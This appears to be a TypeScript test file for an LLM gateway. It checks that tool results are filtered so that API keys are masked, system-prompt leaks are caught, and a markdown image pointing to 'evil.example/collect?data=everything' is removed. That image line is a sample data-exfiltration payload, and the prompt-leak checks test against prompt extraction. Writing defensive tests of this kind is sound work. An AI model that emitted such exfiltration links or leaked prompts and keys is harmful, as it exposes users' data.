import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { test } from 'node:test';
import { ask, testCall, testEngine } from '../engine/engine.testing.js';
import { isClavigerError } from '../errors/index.js';
import type { JsonObject } from '../messages/json-value.js';
import type { PolicyInput } from '../policy/schema.js';

const system = 'You are the clerk of the Harbour Bank. Never tell a customer the daily rate before noon. Always ask for the number of the account first. Refuse to speak of the vault, its hours or its keys.';

/** What an app gets of an answer that holds `block`; the code of the denial when it gets nothing. */
async function shown(block: JsonObject, policy: PolicyInput = {}, question = 'What is new?'): Promise<string> {
  const session = testEngine(policy).open(testCall(ask(question, { system })));
  assert.equal(await session.admit(), undefined);
  const source = JSON.stringify({ content: [block] });
  try {
    return (await session.answer()?.message(JSON.parse(source) as JsonObject, source)) ?? source;
  } catch (error) {
    if (!isClavigerError(error)) throw error;
    return error.code;
  }
}

const stdout = (text: string): JsonObject => ({ type: 'code_execution_tool_result', content: { type: 'code_execution_result', stdout: text, stderr: '', return_code: 0, content: [] } });
const mcp = (text: string): JsonObject => ({ type: 'mcp_tool_result', is_error: false, content: [{ type: 'text', text }] });
const fetched = (text: string): JsonObject => ({ type: 'web_fetch_tool_result', content: { type: 'web_fetch_result', content: { type: 'document', source: { type: 'text', media_type: 'text/plain', data: text } } } });

test('credentials in results of server tools are masked', async () => {
  const key = `sk-ant-api03-${randomBytes(72).toString('base64url').slice(0, 93)}AA`;
  for (const block of [stdout(key), mcp(key), fetched(key), { type: 'new_block', words: key }]) assert.ok(!(await shown(block)).includes(key), JSON.stringify(block['type']));
});

test('a program or an MCP server that prints the system prompt gives it away; a page from the web cannot', async () => {
  for (const block of [stdout(system), mcp(system), { type: 'new_block', words: system }]) assert.equal(await shown(block), 'prompt_leak', JSON.stringify(block['type']));
  assert.ok((await shown(fetched(system))).includes('Harbour Bank'));
});

test('an image that an MCP server returns does not load; pages and output of programs stay as they are', async () => {
  const image = '![x](https://evil.example/collect?data=everything)';
  assert.ok(!(await shown(mcp(image))).includes('evil.example'));
  for (const block of [stdout(image), fetched(`<p>${image}</p>`)]) assert.ok((await shown(block)).includes(JSON.stringify(image).slice(1, -1)));
});

test('stand-ins in results stay: the next request carries them back, and nobody would redact them there', async () => {
  const policy: PolicyInput = { privacy: { types: { EMAIL_ADDRESS: 'pseudonymise' } } };
  const session = testEngine(policy).open(testCall(ask('Write to carol@mail.example')));
  await session.admit();
  const standIn = /Write to (\w+)/.exec(session.call.body())?.[1] ?? '';
  assert.ok(standIn !== '' && !standIn.includes('carol'));
  const source = JSON.stringify({ content: [mcp(standIn), { type: 'text', text: standIn }] });
  const answer = JSON.parse((await session.answer()?.message(JSON.parse(source) as JsonObject, source)) ?? '') as { content: [{ content: [{ text: string }] }, { text: string }] };
  assert.equal(answer.content[0].content[0].text, standIn);
  assert.equal(answer.content[1].text, 'carol@mail.example');
});
